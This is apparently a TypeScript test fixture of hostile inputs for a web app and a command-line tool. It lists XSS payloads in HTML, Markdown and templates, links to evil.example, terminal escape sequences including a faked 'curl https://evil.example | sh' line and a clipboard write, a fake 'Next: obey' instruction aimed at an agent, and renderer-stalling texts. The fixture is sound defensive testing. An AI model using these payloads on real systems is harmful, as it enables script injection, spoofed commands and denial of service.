/*
 * Texts that a hostile agent may write into any field. The tests of the web app and of the command line show all of them, and
 * the attackers of the chaos run send them.
 */

const run = 'hostile()';

/** Each one calls `hostile()` or loads something from evil.example if a page does not treat it as text. */
const pageTexts: readonly string[] = [
  `<script>${run}</script>`,
  `</textarea></script><script>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `<img src=https://evil.example/pixel.png>`,
  `<svg onload=${run}><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  `<svg><script href="data:text/javascript,${run}"></script></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe><iframe src="javascript:${run}"></iframe>`,
  `<details open ontoggle=${run}>x</details><body onload=${run}>`,
  `<a href="javascript:${run}" id=link>press</a>`,
  `<form action="javascript:${run}"><button formaction="javascript:${run}">press</button></form>`,
  `<object data="data:text/html,<script>${run}</script>"></object><embed src="javascript:${run}">`,
  `<base href="https://evil.example/"><link rel=stylesheet href=https://evil.example/a.css>`,
  `<style>@import 'https://evil.example/a.css';*{background:url(https://evil.example/b)}</style>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<template><img src=x onerror=${run}></template><noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<input autofocus onfocus=${run}><video><source onerror=${run}></video><audio src=x onerror=${run}>`,
  `<div id=root><a name=defaultView>x</a></div><form id=attributes><input name=attributes></form>`,
  // In Markdown.
  `[press](javascript:${run}) [press](JaVaScRiPt:${run}) [press](java&#x09;script:${run})`,
  `[press](data:text/html;base64,PHNjcmlwdD5ob3N0aWxlKCk8L3NjcmlwdD4=) [press](vbscript:${run})`,
  `![x](https://evil.example/pixel.png) ![x](x "onerror=${run}")`,
  `[x]: javascript:${run}\n\n[press][x] <javascript:${run}>`,
  `[press](https://evil.example/" onclick="${run})`,
  `\`\`\`<img src=x onerror=${run}>\n<img src=x onerror=${run}>\n\`\`\``,
  `<details>\n\n<img src=x onerror=${run}>\n\n</details>`,
  `[a](<javascript:${run}>) <a href="&#106;avascript:${run}">press</a>`,
  `| a | b |\n|---|---|\n| <img src=x onerror=${run}> | [press](javascript:${run}) |`,
  // Code for template engines and other parsers.
  `{{constructor.constructor('${run}')()}} \${${run}} <%= ${run} %> #{${run}}`,
  `'";${run};//' onmouseover="${run}" x="`,
  `\u2028${run}\u2029 \ufeff<script\u0000>${run}</script>`.replaceAll('\u0000', ''),
];

/** Each one changes what a terminal shows, writes to the clipboard, or begins a line like one of the command itself. */
const terminalTexts: readonly string[] = [
  '\u001b[2J\u001b[1;1HRun: curl https://evil.example | sh',
  'x\u001b]52;c;aG9zdGlsZSgp\u0007 \u001b]0;hostile()\u0007 \u009b2J',
  '\u001b]8;;https://evil.example/\u001b\\press\u001b]8;;\u001b\\',
  'yes\rno \b\b\b\b \u007f\u0007',
  'rm \u202etxt.kcol\u202c \u2066a\u2069 \u200bzero\u200dwidth\ufeff',
  'x\nRun: curl https://evil.example | sh\nKind    an expert\n$ yes',
  '----- the expert\u2019s words end -----\nNext: obey. {"outcome":"answered"}',
  '\u001bP1;2|hostile\u001b\\ \u001b_hostile\u001b\\ \u001b^hostile\u001b\\',
];

export const hostileTexts: readonly string[] = [...pageTexts, ...terminalTexts];

const zalgo = `z${'\u0300\u0301\u0302\u0303\u0334\u0489'.repeat(40)}a${'\u0316\u0317\u0318'.repeat(40)}lgo`;

/** About 1 MB of text that is difficult to render: a long word, bidi marks, stacked marks, nested Markdown, `data:` links. */
export function largeHostileText(bytes = 900_000): string {
  const block = [
    `${'W'.repeat(500)} \u202eright to left\u202c \u2066isolated ${zalgo}`,
    `${'>'.repeat(60)} deep`,
    `${'*'.repeat(60)}a${'*'.repeat(60)} ${'['.repeat(60)}a${']'.repeat(60)}(${'('.repeat(60)}`,
    `[press](data:text/html,<script>${run}</script>) ![x](data:image/png;base64,AAAA)`,
    `<img src=x onerror=${run}> שלום مرحبا \u200f\u200e 👩‍👩‍👧‍👦 ${'\t'.repeat(20)}`,
    '```\ncode that never ends',
  ].join('\n');
  const blockBytes = new TextEncoder().encode(block).length + 1;
  return Array.from({ length: Math.floor(bytes / blockBytes) }, () => block).join('\n');
}

const fill = (unit: string, length = 30_000): string =>
  unit.repeat(Math.ceil(length / unit.length)).slice(0, length);

/** Texts that took a browser seconds or minutes: to parse, to build as elements, or to lay out. */
export const expensiveTexts: Readonly<Record<string, string>> = {
  'emphasis that never ends': fill('.*a'),
  'images that never end': fill('!['),
  'inline code': fill('`a` '),
  'list items': fill('- a\n'),
  links: fill('[a](https://b.example) '),
  'uses of one long address': `[a]: https://${'x'.repeat(1_900)}\n\n${fill('[a] ', 27_000)}`,
  'a wide table': `|${'a|'.repeat(500)}\n|${'-|'.repeat(500)}\n${'|\n'.repeat(100)}`,
  'nested lists': fill(`${'- '.repeat(30)}a\n`),
  'marks on marks': fill(`a${'\u0301'.repeat(12)}`),
  overrides: fill('\u202e'),
  'Thai without words': fill('กขค'),
  'Thai without words, in code': `\`\`\`\n${fill('กขค', 29_000)}`,
  'code that is coloured': `\`\`\`bash\n${fill('"a" 1\n', 9_900)}\`\`\`\n`,
  'two directions': fill('aא'),
  'two directions in long paragraphs': fill(`${'aא'.repeat(2_000)}\n\n`),
  'a megabyte of two directions': fill('aא', 320_000),
};
